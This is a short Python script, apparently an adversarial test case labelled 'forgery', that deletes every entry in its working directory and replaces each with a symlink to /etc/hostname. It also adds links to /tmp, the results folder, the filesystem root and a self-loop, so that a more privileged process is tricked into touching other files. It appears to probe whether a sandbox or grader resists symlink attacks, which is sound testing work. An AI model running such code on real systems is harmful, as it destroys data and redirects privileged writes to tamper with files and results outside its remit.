"""Replaces its files and folders by links to others, so that someone with more rights changes those."""

# on: q8
# kind: forgery
# ruff: noqa: PTH107, PTH110, PTH112, PTH208, PTH211

import os
import shutil

for name in os.listdir():
    shutil.rmtree(name) if os.path.isdir(name) else os.remove(name)
    os.symlink("/etc/hostname", name)
for name, target in (("tests", "/tmp"), ("results", "../results"), ("loop", "loop"), ("here", "."), (".tmp2", "/")):
    os.symlink(target, name)
os.link("/proc/self/fd/1", "output") if os.path.exists("/no such file") else None
